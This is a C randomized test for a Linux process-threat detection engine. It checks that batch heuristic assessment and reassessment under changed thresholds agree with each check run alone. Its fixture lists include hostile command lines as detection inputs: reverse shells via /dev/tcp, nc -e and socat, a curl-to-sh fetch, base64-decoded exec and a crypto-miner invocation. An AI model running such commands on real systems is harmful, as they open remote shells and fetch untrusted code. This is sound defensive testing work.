/* SPDX-License-Identifier: MIT */
/* What the gate keeps from a check is only what the check would have said no to, and
 * what is reassessed is what would have been found. */
#include <linux/capability.h>
#include <sys/socket.h>
#include <sys/stat.h>

#include "base/memory.h"
#include "heuristics/heuristic.h"
#include "tests/support/snapshot_fixture.h"
#include "tests/support/test.h"

enum { ROUNDS = 3000, CROWD = 12, PIPES = 3, TERMINALS = 3 };

/* xorshift64*, so that a failure comes back with its seed. */
struct dice {
    uint64_t state;
};

static uint32_t roll(struct dice *dice, uint32_t sides)
{
    dice->state ^= dice->state >> 12;
    dice->state ^= dice->state << 25;
    dice->state ^= dice->state >> 27;
    return (uint32_t)(dice->state * UINT64_C(2685821657736338717) >> 33) % sides;
}

#define ONE_OF(dice, list) (list)[roll(dice, sizeof(list) / sizeof *(list))]

static const char *const exes[] = {"/usr/bin/bash",
                                   "/bin/sh",
                                   "/usr/bin/dash (deleted)",
                                   "/usr/bin/busybox",
                                   "/usr/bin/python3.11",
                                   "/tmp/node",
                                   "/usr/bin/nc.openbsd",
                                   "/usr/bin/socat",
                                   "/usr/sbin/nginx",
                                   "/usr/sbin/sshd",
                                   "/usr/lib/postgresql/15/bin/postgres",
                                   "/memfd:x (deleted)",
                                   "/memfd:sh (deleted)",
                                   "/tmp/x",
                                   "/tmp/.x/3 (deleted)",
                                   "/opt/x/0:1]",
                                   "/opt/x/kworker",
                                   "/opt/x (deleted)",
                                   "/opt/x  (deleted)",
                                   "/home/u/.x/w",
                                   "/root/.nvm/node",
                                   "/usr/lib/ld-linux-x86-64.so.2",
                                   "/usr/bin/perl",
                                   "/opt/x/sshd",
                                   "/tmp/systemd-x (deleted)",
                                   ""};
static const char *const names[] = {"cron", "bash", "sh",        "nginx",   "kworker/0:1",
                                    "4",    "x",    "[kswapd0]", "python3", ""};
static const char *const commands[] = {
    "",
    "w",
    "|||",
    "x|",
    "-bash",
    "bash|-i",
    "sh|-i|-s",
    "/proc/self/fd/3",
    "/dev/fd/3|x",
    "bash|/proc/self/fd/4",
    "[kworker/0:1]",
    "[kworker/0:1",
    "kworker",
    "/opt/x/kworker",
    "x (deleted)",
    "nginx: worker process",
    "busybox|sh|-i",
    "sh",
    "busybox|nc|-e|/bin/sh",
    "nc|10.0.0.1|4444|-e|/bin/sh",
    "socat|TCP:10.0.0.1:1|EXEC:/bin/sh",
    "bash|-c|bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "bash|-c|curl http://x \1 sh",
    "bash|-c|echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQK \1 base64 -d \1 sh",
    "python3|-c|exec(__import__('base64').b64decode('aGVsbG8gd29ybGQgaGVsbG8gd29ybGQK'))",
    "python3|-c|import pty; pty.spawn('/bin/sh') # socket",
    "xmrig|-o|stratum+tcp://pool:3333",
    "x|--donate-level|1",
    "bash|x",
    "sh|shm/x",
    "sh|./../tmp/x",
    "python3|/dev/shm/x.py",
    "perl|x.pl",
    "ld-linux-x86-64.so.2|./x",
    "/usr/bin/bash",
    "/usr/sbin/nginx"};
static const char *const locals[] = {"10.0.0.1:80", "10.0.0.1:5000", "10.0.0.1:5001"};
static const char *const remotes[] = {"10.0.0.9:443", "10.0.0.9:4444", "127.0.0.1:4444", NULL};

static void give_file(struct dice *dice, struct process *process)
{
    static const uint32_t modes[] = {0755, 0755, 0777, 04755, 02777};

    process->exe_file.nlink = roll(dice, 3) > 0;
    process->exe_file.mode = S_IFREG | ONE_OF(dice, modes);
    process->exe_file.flags = roll(dice, 64);
    process->exe_file.uid = roll(dice, 2) * 1000;
}

static void give_powers(struct dice *dice, struct process *process)
{
    for (int i = 0; i < ID_KIND_COUNT; i++)
        process->uid[i] = process->gid[i] = roll(dice, 2) * 1000;
    process->loginuid = roll(dice, 2) ? 1000 : UINT32_MAX;
    process->cap_effective = roll(dice, 2) ? UINT64_C(1) << CAP_SYS_ADMIN : 0;
    process->cap_ambient = roll(dice, 4) ? 0 : UINT64_C(1) << CAP_SYS_PTRACE;
    process->tracer_pid = roll(dice, 4) ? 0 : (int32_t)(1 + roll(dice, CROWD));
    process->environ_flags =
        roll(dice, 3) ? 0 : ENVIRON_HAS_LD_PRELOAD | (roll(dice, 2) ? ENVIRON_HAS_LD_AUDIT : 0);
}

static void give_descriptors(struct dice *dice, struct given *given,
                             const struct process *process)
{
    for (int fd = 0; fd < 3; fd++)
        switch (roll(dice, 6)) {
        case 0:
            given_socket(given, process, fd + (roll(dice, 2) ? 3 : 0), ONE_OF(dice, locals),
                         ONE_OF(dice, remotes));
            break;
        case 1:
            given_pipe(given, process, fd, 1 + roll(dice, PIPES));
            break;
        case 2:
            given_memfd(given, process, fd + 3, "/memfd:x (deleted)");
            break;
        case 3:
            given_master(given, process, fd + 3, roll(dice, TERMINALS));
            break;
        case 4:
            given_raw_socket(given, process, fd, AF_PACKET);
            break;
        default:
            break;
        }
}

static void give_facts(struct dice *dice, struct process *process)
{
    for (unsigned fact = 0; fact < FACT_COUNT; fact++)
        if (roll(dice, 30) == 0)
            process->facts[fact] = (uint8_t)roll(dice, FACT_STATE_COUNT);
}

static void give_places(struct dice *dice, struct given *given, struct process *process)
{
    static const char *const places[] = {
        "/", "/var", "/run", "/tmp", "/run/shm", "/dev/shm/x", "/srv/x (deleted)"};
    static const char *const scripts[] = {"/srv/4 (deleted)", "/srv/x", "/tmp/x"};

    process->cwd = given_text(given, ONE_OF(dice, places));
    process->root = given_text(given, roll(dice, 3) ? "/" : ONE_OF(dice, places));
    process->cmdline_flags = roll(dice, 3) ? 0 : CMDLINE_NAMES_OTHER_FILE;
    process->maps_flags = roll(dice, 3) ? MAPS_EXE_IS_MAPPED : 0;
    process->ld_audit = given_text(given, "/tmp/x.so");
    process->integrity = (uint8_t)roll(dice, 3);
    process->written_code.mappings = roll(dice, 3);
    if (roll(dice, 3) == 0)
        given_file(given, process, 10, ONE_OF(dice, scripts));
    if (roll(dice, 5) == 0)
        given_bpf(given, process, 11, "anon_inode:bpf-prog", roll(dice, 20));
}

static void give_crowd(struct dice *dice, struct given *given)
{
    static const char *const permissions[] = {"rwxp", "r-xp", "rw-p"};
    static const char *const libraries[] = {NULL, "/memfd:x (deleted)", "/srv/x.so (deleted)"};

    for (int32_t pid = 1; pid <= CROWD; pid++) {
        struct process *process =
            given_process(given, pid, (int32_t)roll(dice, (uint32_t)pid), ONE_OF(dice, exes));

        if (roll(dice, 3) > 0)
            given_command(given, process, ONE_OF(dice, commands));
        if (roll(dice, 3) > 0)
            process->comm = given_text(given, ONE_OF(dice, names));
        process->tty_nr = roll(dice, 2) ? 0 : (int32_t)(136 << 8 | roll(dice, TERMINALS));
        process->session = pid;
        process->is_new = roll(dice, 2) == 0;
        process->cpu_percent = (float)roll(dice, 120);
        process->ld_preload = given_text(given, "/tmp/x.so");
        if (roll(dice, 2))
            process->package = given_text(given, "x");
        process->facts[FACT_PACKAGE] = FACT_KNOWN;
        if (roll(dice, 10) == 0)
            process->state = 'Z';
        if (roll(dice, 10) == 0)
            process->flags = PROCESS_PF_KTHREAD;
        give_file(dice, process);
        give_powers(dice, process);
        give_descriptors(dice, given, process);
        give_places(dice, given, process);
        if (pid == 2) /* between a shell, perhaps, and one who is connected, perhaps */
            given_socket_pair(given, process, (int)roll(dice, 2), process - 1, 9);
        if (roll(dice, 3) == 0)
            given_map(given, process, ONE_OF(dice, permissions), 4096, ONE_OF(dice, libraries));
        give_facts(dice, process);
    }
}

/* Some of them. */
static void tune(struct dice *dice, struct thresholds *thresholds)
{
    if (roll(dice, 2))
        thresholds->cpu_high = roll(dice, 120);
    if (roll(dice, 2))
        thresholds->many_conns = roll(dice, 3);
    if (roll(dice, 2))
        thresholds->ports = (struct port_set){0};
    if (roll(dice, 2))
        port_set_add(&thresholds->ports, 443);
}

/* What each check says when it is asked about everybody. */
static void compare_with_checks(const struct given *given, const struct thresholds *thresholds,
                                const struct assessment *assessment, unsigned *fired)
{
    const struct check_context context = {&given->snapshot, given->relations, thresholds};
    struct strbuf evidence = {0};

    for (size_t p = 0; p < given->snapshot.process_count; p++) {
        const struct process *process = &given->snapshot.processes[p];
        const struct process_findings *found = &assessment->processes[p];
        uint32_t at = found->first;
        bool is_asked = !process_is_kernel_thread(process) && !process_is_zombie(process);

        for (uint32_t i = 0; is_asked && i < HEURISTIC_COUNT; i++) {
            bool knows = process_knows(process, heuristics[i].info.needs);
            bool is_tried = process_knows(process, heuristics[i].info.needs & FACT_CLOSER);

            assert_int_equal(heuristic_set_has(&found->not_assessed, i), is_tried && !knows);
            if (!knows)
                continue;
            strbuf_clear(&evidence);
            float strength = heuristics[i].check(&context, process, &evidence);
            if (strength <= 0 && evidence.length == 0)
                continue;
            if (at == found->first + found->count || assessment->findings[at].heuristic != i)
                fail_msg("%s of %s, %s was kept back: %s", heuristics[i].info.key,
                         snapshot_string(&given->snapshot, process->exe),
                         snapshot_string(&given->snapshot, process->comm),
                         strbuf_string(&evidence));
            assert_true(assessment->findings[at].strength == strength);
            assert_string_equal(assessment->findings[at].evidence, strbuf_string(&evidence));
            at++;
            fired[i]++;
        }
        assert_int_equal(at, found->first + found->count);
    }
    strbuf_release(&evidence);
}

static void finds_what_asking_everybody_finds(void **state)
{
    struct assessment assessment = {0}, tuned = {0};
    struct thresholds thresholds, others;
    unsigned fired[HEURISTIC_COUNT] = {0};

    (void)state;
    thresholds_init(&thresholds);
    thresholds.many_conns = 1;
    others = thresholds;
    for (uint64_t seed = 1; seed <= ROUNDS; seed++) {
        struct dice dice = {seed * UINT64_C(0x9e3779b97f4a7c15)};
        struct given given;

        given_init(&given);
        give_crowd(&dice, &given);
        given_seal(&given);
        heuristics_assess(&given.snapshot, given.relations, &thresholds, &assessment);
        compare_with_checks(&given, &thresholds, &assessment, fired);

        /* Other thresholds, and back: as if assessed by them. */
        tune(&dice, &others);
        assessment_borrow(&tuned, &assessment);
        heuristics_reassess(&(struct check_context){&given.snapshot, given.relations, &others},
                            &tuned);
        compare_with_checks(&given, &others, &tuned, fired);
        heuristics_reassess(
            &(struct check_context){&given.snapshot, given.relations, &thresholds}, &tuned);
        compare_with_checks(&given, &thresholds, &tuned, fired);
        given_release(&given);
    }
    assessment_release(&assessment);
    assessment_release(&tuned);
    /* The comparison is worth what the crowd makes the checks say. The sockets of one
     * member are too few for many hosts. */
    for (uint32_t i = 0; i < HEURISTIC_COUNT; i++)
        if (fired[i] == 0 && i != HEURISTIC_conn_fanout)
            fail_msg("nobody in the crowd is a case of %s", heuristics[i].info.key);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(finds_what_asking_everybody_finds),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
